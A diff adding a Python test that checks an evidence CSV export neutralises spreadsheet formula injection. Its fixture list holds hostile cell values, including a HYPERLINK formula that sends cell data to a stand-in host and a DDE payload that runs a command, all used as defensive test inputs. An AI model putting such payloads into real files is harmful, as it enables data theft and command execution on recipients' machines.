@@ -145,3 +145,21 @@ def test_pdf_text_shows_the_same_numbers_as_metrics_json(demo_wh, tmp_path):
         else:  # the headline shows a rate to one decimal, and its parts
             assert f"{value * 100:.1f}%" in first_page, metric
             assert f"{int(numerator)}/{int(denominator)}" in first_page, metric
+
+
+def test_evidence_csv_neutralises_cells_a_spreadsheet_would_run(tmp_path):
+    import csv
+
+    conn = warehouse.connect(":memory:")
+    hostile = ['=HYPERLINK("http://x/"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]
+    for i, text in enumerate(hostile):
+        conn.execute("insert into evidence values ('r', '2026-10', 'complaint.count', 'S1', '2026-10', 'miss', "
+                     "'complaints', ?, 'complaints/a.csv', ?, null, ?)", [text, i + 2, text])
+    conn.execute("insert into evidence values ('r', '2026-10', 'complaint.count', 'S1', '2026-10', 'miss', "
+                 "'complaints', 'C1', 'complaints/a.csv', 9, null, '噪音 = 扰民')")
+    path = evidence_xlsx.write_evidence_csv(conn, "r", tmp_path / "evidence.csv")
+    rows = list(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines()))
+    by_line = {int(r["source_line"]): r for r in rows}
+    for i, text in enumerate(hostile):
+        assert by_line[i + 2]["detail"] == "'" + text and by_line[i + 2]["record_id"] == "'" + text
+    assert by_line[9]["detail"] == "噪音 = 扰民" and by_line[9]["record_id"] == "C1"  # ordinary text as it was
